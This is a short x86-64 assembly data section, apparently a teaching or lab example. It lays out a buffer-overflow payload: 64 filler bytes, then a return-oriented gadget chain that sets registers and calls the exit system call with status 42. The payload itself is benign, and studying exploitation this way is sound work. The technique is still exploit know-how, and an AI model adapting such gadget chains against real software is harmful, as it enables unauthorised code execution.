    .data
payload:
    .zero 64                # the buffer
    .quad pop_rdi, 42
    .quad pop_rax, 60
    .quad do_syscall
payload_end:
    .quad 0
